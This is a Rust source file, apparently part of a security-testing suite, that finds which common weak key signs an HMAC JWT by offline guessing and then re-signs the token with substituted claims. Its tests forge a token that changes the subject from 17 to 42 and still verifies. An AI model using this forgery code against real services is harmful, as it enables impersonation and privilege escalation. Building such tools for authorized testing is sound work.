//! The crypto of forged credentials (a leaf): which common weak key signs a token, checked offline against
//! an identity's own token, and tokens signed again with it. HMAC only (`HS256`, `HS384`, `HS512`), by the
//! `jsonwebtoken` crate; what to forge is decided in `cloison_suites::forge`.

use cloison_suites::forge::{self, Jwt};
use jsonwebtoken::{Algorithm, DecodingKey, EncodingKey};
use serde_json::{Map, Value};

/// The HMAC algorithm a token names, if it names one.
fn hmac(jwt: &Jwt) -> Option<Algorithm> {
    match jwt.alg() {
        "HS256" => Some(Algorithm::HS256),
        "HS384" => Some(Algorithm::HS384),
        "HS512" => Some(Algorithm::HS512),
        _ => None,
    }
}

/// The first key of the common weak list whose HMAC signs `jwt` as it was issued; `None` when the token is
/// not HMAC-signed or no listed key signs it. No request is sent.
pub fn weak_key(jwt: &Jwt) -> Option<&'static str> {
    let alg = hmac(jwt)?;
    let message = jwt.signing_input();
    forge::weak_keys().find(|key| {
        jsonwebtoken::crypto::verify(
            &jwt.signature_part,
            message.as_bytes(),
            &DecodingKey::from_secret(key.as_bytes()),
            alg,
        )
        .unwrap_or(false)
    })
}

/// `jwt` with `claims` in place of its own, its header kept, signed with `key`.
pub fn resign(jwt: &Jwt, claims: &Map<String, Value>, key: &str) -> Option<String> {
    let alg = hmac(jwt)?;
    let message = jwt.signing_input_with(claims);
    let signature = jsonwebtoken::crypto::sign(
        message.as_bytes(),
        &EncodingKey::from_secret(key.as_bytes()),
        alg,
    )
    .ok()?;
    Some(format!("{message}.{signature}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use jsonwebtoken::{Header, Validation};
    use serde_json::json;

    fn signed(alg: Algorithm, key: &str) -> String {
        jsonwebtoken::encode(
            &Header::new(alg),
            &json!({"sub": "17", "exp": 4_000_000_000u64}),
            &EncodingKey::from_secret(key.as_bytes()),
        )
        .expect("signed")
    }

    #[test]
    fn a_weak_key_is_found_offline_and_signs_forgeries_the_platform_would_verify() {
        for alg in [Algorithm::HS256, Algorithm::HS384, Algorithm::HS512] {
            let jwt = Jwt::parse(&signed(alg, "changeme")).expect("a jwt");
            assert_eq!(weak_key(&jwt), Some("changeme"));
            let claims = json!({"sub": "42", "exp": 4_000_000_000u64});
            let Value::Object(claims) = claims else {
                unreachable!()
            };
            let forged = resign(&jwt, &claims, "changeme").expect("forged");
            let verified = jsonwebtoken::decode::<Value>(
                &forged,
                &DecodingKey::from_secret(b"changeme"),
                &Validation::new(alg),
            )
            .expect("verifies with the platform's key");
            assert_eq!(verified.claims["sub"], json!("42"));
        }
    }

    #[test]
    fn a_strong_key_or_another_algorithm_is_not_found() {
        let strong = Jwt::parse(&signed(Algorithm::HS256, "k9$Qv3!zr8Lw0#pX")).expect("a jwt");
        assert_eq!(weak_key(&strong), None);
        let claims = strong.claims.clone();
        let mut rs = strong;
        rs.header.insert("alg".into(), "RS256".into());
        assert_eq!(weak_key(&rs), None);
        assert_eq!(resign(&rs, &claims, "secret"), None);
    }
}
